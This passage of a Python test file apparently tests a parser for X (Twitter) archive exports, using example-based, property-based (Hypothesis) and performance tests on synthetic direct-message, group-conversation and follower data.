            global_name="window.YTD.direct_messages_group.part0",
        ),
    )
    assert part.quarantine[[S.LINE, S.REASON]].values.tolist() == [
        [2, _x.Q_PARTICIPANT_IDS],
        [3, _x.Q_PARTICIPANT_IDS],
        [4, _x.Q_TIME],
    ]
    assert [list(r) for r in part.messages[S.RECIPIENT_IDS]] == [[f"x:{OWNER}", "x:4004"]]
    assert part.messages[S.IS_GROUP].tolist() == [True]


def test_a_group_of_two_is_not_a_group():
    events = [
        message("1001", None, "30", "2023-03-01T10:00:00.000Z"),
        {
            "joinConversation": {
                "initiatingUserId": "1001",
                "participantsSnapshot": [OWNER, "1001"],
                "createdAt": "2023-02-26T10:00:00.000Z",
            }
        },
    ]
    part = read(
        account_file(),
        dm_file(
            [conversation("900", events)],
            name="data/direct-messages-group.js",
            global_name="window.YTD.direct_messages_group.part0",
        ),
    )
    assert part.messages[S.IS_GROUP].tolist() == [False]
    assert part.messages[S.FOLDER].tolist() == ["direct_messages_group"]


# ---------------------------------------------------------------- properties
_ids = st.integers(min_value=1, max_value=2**63 - 1).map(str)
_texts = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=40).filter(
    lambda t: t.strip() != ""
)
_times = st.integers(min_value=1_200_000_000_000, max_value=1_900_000_000_000).map(
    lambda ms: pd.Timestamp(ms, unit="ms", tz="UTC").strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"
)


@st.composite
def one_to_one_archives(draw):
    """Random 1:1 conversations of the owner, each message with a unique id."""
    others = draw(st.lists(_ids.filter(lambda i: i != OWNER), min_size=1, max_size=4, unique=True))
    conversations, expected, next_id = [], [], 1
    for other in others:
        events = []
        for _ in range(draw(st.integers(1, 4))):
            mine = draw(st.booleans())
            sender, recipient = (OWNER, other) if mine else (other, OWNER)
            at, text = draw(_times), draw(_texts)
            events.append(message(sender, recipient, str(next_id), at, text, reactions=[], urls=[]))
            expected.append(
                (
                    f"x:{other}-{OWNER}",
                    pd.Timestamp(at),
                    f"x:{sender}",
                    "sent" if mine else "received",
                    text,
                    (f"x:{recipient}",),
                )
            )
            next_id += 1
        conversations.append(conversation(f"{other}-{OWNER}", events))
    return conversations, expected


@settings(max_examples=20)
@given(one_to_one_archives(), st.sampled_from(["jackson", "lines"]))
def test_any_archive_in_either_layout_reads_back_to_the_same_messages(archive, style):
    conversations, expected = archive
    part = read(account_file(), dm_file(conversations, style=style))
    got = sorted(
        zip(
            part.messages[S.CONVERSATION_ID],
            part.messages[S.SENT_AT],
            part.messages[S.SENDER_ID],
            part.messages[S.DIRECTION],
            part.messages[S.CONTENT],
            map(tuple, part.messages[S.RECIPIENT_IDS]),
            strict=True,
        )
    )
    assert got == sorted(expected)
    assert part.quarantine.empty and part.excluded.empty
    assert_balanced(part)


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=10),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                [
                    "dmConversation",
                    "conversationId",
                    "messages",
                    "messageCreate",
                    "senderId",
                    "recipientId",
                    "id",
                    "createdAt",
                    "text",
                    "mediaUrls",
                    "joinConversation",
                    "participantsSnapshot",
                    "userIds",
                    "initiatingUserId",
                    "x",
                ]
            ),
            inner,
            max_size=4,
        )
    ),
    max_leaves=12,
)


@settings(max_examples=20)
@given(st.lists(_json, max_size=5))
def test_arbitrary_json_items_never_crash_and_always_balance(items):
    part = read(
        account_file(),
        SourceFile(
            _x.DIRECT_MESSAGES,
            "data/direct-messages.js",
            js("window.YTD.direct_messages.part0", items),
            _x.FAMILY,
        ),
    )
    assert_balanced(part)
    assert len(part.messages) == _ledger(part)["data/direct-messages.js"][2]


@settings(max_examples=20)
@given(st.lists(_json, max_size=5))
def test_arbitrary_follow_items_never_crash_and_always_balance(items):
    part = read(
        account_file(),
        SourceFile(_x.FOLLOWING, "data/following.js", js("window.YTD.following.part0", items), _x.FAMILY),
    )
    assert_balanced(part)
    assert len(part.connections) == part.ledger[S.KEPT].sum() - 1  # minus the account


@given(st.binary(max_size=64))
def test_sniff_never_raises(head):
    assert _x.sniff(head) in (None, *(_x._KIND_BY_GLOBAL.values()), _x.MANIFEST)


# ---------------------------------------------------------------- vectorised: a large archive stays fast
def test_a_large_archive_reads_in_reasonable_time():
    import time

    conversations = [
        conversation(
            f"{1000 + c}-{OWNER}",
            [
                message(
                    OWNER if i % 2 else str(1000 + c),
                    str(1000 + c) if i % 2 else OWNER,
                    str(c * 1000 + i),
                    f"2022-01-{1 + i % 28:02d}T10:00:{i % 60:02d}.000Z",
                    "hello there",
                )
                for i in range(120)
            ],
        )
        for c in range(250)
    ]
    follows = [{"follower": {"accountId": str(10**12 + i)}} for i in range(10_000)]

    def compact(global_name, data):  # the same JSON without X's pretty printing (json's C encoder: fast)
        return f"{global_name} = {json.dumps(data, ensure_ascii=False)}".encode()

    files = (
        account_file(),
        SourceFile(
            _x.DIRECT_MESSAGES,
            "data/direct-messages.js",
            compact("window.YTD.direct_messages.part0", conversations),
            _x.FAMILY,
        ),
        SourceFile(_x.FOLLOWER, "data/follower.js", compact("window.YTD.follower.part0", follows), _x.FAMILY),
    )
    start = time.perf_counter()
    part = read(*files)
    elapsed = time.perf_counter() - start
    assert len(part.messages) == 30_000 and len(part.connections) == 10_000
    assert elapsed < 10, elapsed


if __name__ == "__main__":
    write_golden(*sys.argv[1:])
